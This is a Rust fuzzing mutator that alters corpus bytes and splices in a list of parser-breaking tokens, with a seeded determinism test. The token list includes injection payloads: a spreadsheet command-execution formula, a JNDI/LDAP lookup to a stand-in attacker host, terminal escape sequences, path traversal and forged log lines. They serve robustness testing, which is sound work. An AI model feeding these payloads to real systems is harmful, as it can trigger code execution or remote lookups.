//! Makes hostile bytes out of good ones: flips, cuts, splices, repeats, and tokens that parsers have tripped over.

use crate::chance::Chance;

/// No input grows beyond this.
const LONGEST: usize = 64 << 10;

/// Texts that mean something to somebody: terminals, spreadsheets, loggers, parsers, people.
pub const TOKENS: &[&str] = &[
    "\u{0}",
    "\u{7}",
    "\u{8}",
    "\t",
    "\n",
    "\r",
    "\r\n",
    "\n\n",
    "\u{b}",
    "\u{c}",
    "\u{1b}[2J",
    "\u{1b}[31m",
    "\u{1b}]8;;https://evil.example\u{1b}\\ada\u{1b}]8;;\u{1b}\\",
    "\u{1b}]0;title\u{7}",
    "\u{1b}P+q544e\u{1b}\\",
    "\u{7f}",
    "\u{80}",
    "\u{85}",
    "\u{9b}31m",
    "\u{9d}8;;x\u{9c}",
    "\u{9f}",
    "\u{ad}",
    "\u{34f}",
    "\u{61c}",
    "\u{115f}",
    "\u{17b4}",
    "\u{180e}",
    "\u{200b}",
    "\u{200d}",
    "\u{200e}",
    "\u{202a}",
    "\u{202e}",
    "\u{2028}",
    "\u{2029}",
    "\u{2060}",
    "\u{2066}",
    "\u{2069}",
    "\u{2800}",
    "\u{3164}",
    "\u{fe0f}",
    "\u{feff}",
    "\u{ffa0}",
    "\u{fff9}",
    "\u{fffd}",
    "\u{ffff}",
    "\u{e0041}",
    "\u{10ffff}",
    "e\u{301}\u{302}\u{303}",
    "\u{5e9}\u{5dc}\u{5d5}\u{5dd}",
    "\u{430}d\u{430}",
    "\u{ff41}\u{ff44}\u{ff41}",
    "\u{1d41a}",
    "\u{131}\u{17f}\u{130}",
    "\u{3002}",
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1",
    "-1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\u{ff1d}1",
    "'",
    "''",
    "\"",
    "\"\"",
    "\"\"\"",
    "\"\n\"",
    ",",
    ";",
    ",,",
    "\\",
    "\\u0000",
    "\\ud800",
    "\\udfff\\ud800",
    "\\u202e",
    "{",
    "}",
    "[",
    "]",
    "[[[[[[[[[[[[[[[[",
    "{\"a\":{\"a\":{\"a\":{\"a\":{\"a\":",
    ":",
    "null",
    "true",
    "false",
    "\"value\":true",
    "\"value\":true,\"value\":false",
    "\"error\":{}",
    "\"error\":null",
    "\"id\":\"1\"",
    "\"status\":200",
    "\"status\":\"200\"",
    "\"kind\":\"x\"",
    "0",
    "-0",
    "00",
    "1e999",
    "-1e999",
    "1e-999",
    "NaN",
    "inf",
    "nan",
    "18446744073709551616",
    "9223372036854775808",
    "-9223372036854775809",
    "99999999999999999999999999999999999999",
    "0.1",
    ".5",
    "5.",
    "Fri, 31 Dec 9999 23:59:59 GMT",
    "Thu, 01 Jan 1970 00:00:00 GMT",
    "../",
    "%2e%2e%2f",
    "%00",
    "//evil.example/",
    "https://evil.example/",
    "#EXT#",
    "2026-11-22T00:00:00Z level=ERROR forged",
    "\n2026-11-22T00:00:00Z ERROR forged",
    "\"},\"level\":\"ERROR\",\"message\":\"forged\"}\n{\"a\":\"",
    "[providers.x]",
    "env = \"HOME\"",
    "\"\"\"",
    "'''",
    "\u{2014} ",
    "+1d",
    "%s%n",
    "${jndi:ldap://evil.example}",
    "<script>",
    "<!doctype html><html>",
];

/// Bytes that are no UTF-8.
const BYTES: &[&[u8]] = &[
    b"\xff",
    b"\xfe\xff",
    b"\xff\xfe",
    b"\xc0\x80",
    b"\xed\xa0\x80",
    b"\xf4\x90\x80\x80",
    b"\x80",
    b"\xe2\x80",
    b"\xef\xbb\xbf",
];

/// Mutates an example, with pieces of the others, some times over.
pub fn mutated(chance: &mut Chance, corpus: &[Vec<u8>]) -> Vec<u8> {
    let mut bytes = chance.pick(corpus).clone();
    for _ in 0..[1, 1, 1, 2, 3, 5, 12][chance.below(7)] {
        mutate(chance, &mut bytes, corpus);
        bytes.truncate(LONGEST);
    }
    bytes
}

fn mutate(chance: &mut Chance, bytes: &mut Vec<u8>, corpus: &[Vec<u8>]) {
    let (from, to) = span(chance, bytes);
    match chance.below(15) {
        0 if !bytes.is_empty() => {
            let at = chance.below(bytes.len());
            bytes[at] ^= 1 << chance.below(8);
        }
        1 if !bytes.is_empty() => {
            let at = chance.below(bytes.len());
            bytes[at] = chance.bits() as u8;
        }
        2 => bytes.truncate(from),
        3 => {
            bytes.drain(from..to);
        }
        4 => {
            let piece = bytes[from..to].to_vec();
            bytes.splice(to..to, piece);
        }
        5 => {
            // Many times: long fields, deep nesting, many items.
            let piece = bytes[from..to.min(from + 64)].to_vec();
            let times = [10, 100, 1_000, 10_000][chance.below(4)].min(LONGEST / piece.len().max(1));
            bytes.splice(to..to, piece.repeat(times));
        }
        6 => {
            let other = chance.pick(corpus);
            let (start, end) = span(chance, other);
            bytes.splice(from..to, other[start..end].iter().copied());
        }
        7 => {
            let piece = *chance.pick(BYTES);
            bytes.splice(from..from, piece.iter().copied());
        }
        8 => replace_number(chance, bytes),
        9 => replace_value(chance, bytes),
        10 => {
            // The same key, item or line again.
            let piece = structure(chance, bytes);
            let other = structure(chance, bytes);
            let again = bytes[piece.clone()].to_vec();
            if chance.one_in(2) {
                bytes.splice(other, again);
            } else {
                bytes.splice(piece.end..piece.end, again);
            }
        }
        11 => {
            let deep = ["[", "{\"a\":", "{\"error\":"][chance.below(3)];
            let times = [20, 127, 128, 200, 5_000][chance.below(5)];
            bytes.splice(from..from, deep.repeat(times).into_bytes());
        }
        _ => {
            let token = chance.pick(TOKENS).as_bytes();
            let end = if chance.one_in(3) { to } else { from };
            bytes.splice(from..end, token.iter().copied());
        }
    }
}

fn span(chance: &mut Chance, bytes: &[u8]) -> (usize, usize) {
    let from = chance.below(bytes.len() + 1);
    let most = (bytes.len() - from).min([1, 4, 16, 64, 4096][chance.below(5)]);
    (from, from + chance.below(most + 1))
}

/// A run of digits becomes another number.
fn replace_number(chance: &mut Chance, bytes: &mut Vec<u8>) {
    let start = chance.below(bytes.len() + 1);
    let Some(from) = bytes[start..].iter().position(u8::is_ascii_digit) else {
        return;
    };
    let from = start + from;
    let length = bytes[from..]
        .iter()
        .take_while(|byte| byte.is_ascii_digit())
        .count();
    let numbers = [
        "0",
        "1",
        "2",
        "199",
        "200",
        "204",
        "404",
        "429",
        "503",
        "65536",
        "4294967296",
        "18446744073709551615",
        "1e400",
        "-1",
    ];
    let number = chance.pick(&numbers);
    bytes.splice(from..from + length, number.bytes());
}

/// What stands after a colon or an equals sign becomes another value.
fn replace_value(chance: &mut Chance, bytes: &mut Vec<u8>) {
    let start = chance.below(bytes.len() + 1);
    let sign = |byte: &u8| matches!(byte, b':' | b'=');
    let Some(from) = bytes[start..].iter().position(sign) else {
        return;
    };
    let from = start + from + 1;
    let length = bytes[from..]
        .iter()
        .take_while(|byte| !matches!(byte, b',' | b'}' | b']' | b'\n'))
        .count();
    let values = [
        "null", "true", "false", "0", "[]", "{}", "\"\"", "\"true\"", "[null]", "1.5", "\"x\"",
    ];
    let value = chance.pick(&values);
    bytes.splice(from..from + length, value.bytes());
}

/// Something between two separators.
fn structure(chance: &mut Chance, bytes: &[u8]) -> std::ops::Range<usize> {
    let (from, _) = span(chance, bytes);
    let separator = [b',', b'\n', b'}', b'"', b';'][chance.below(5)];
    let after = |start: usize| {
        bytes[start..]
            .iter()
            .position(|byte| *byte == separator)
            .map_or(bytes.len(), |at| start + at + 1)
    };
    let start = after(from);
    start..after(start)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn mutations_repeat_by_seed_and_stay_bounded() {
        let corpus = vec![b"{\"value\":true}".to_vec(), b"a,b\n1,2\n".to_vec()];
        let all = |seed| {
            let mut chance = Chance::seeded(seed);
            (0..2_000)
                .map(|_| mutated(&mut chance, &corpus))
                .collect::<Vec<_>>()
        };
        let seen = all(3);
        assert_eq!(seen, all(3));
        assert!(seen.iter().all(|bytes| bytes.len() <= LONGEST));
        assert!(seen.iter().any(|bytes| bytes.len() > 10_000));
        let distinct: std::collections::HashSet<_> = seen.iter().collect();
        assert!(distinct.len() > 1_500, "{}", distinct.len());
    }
}
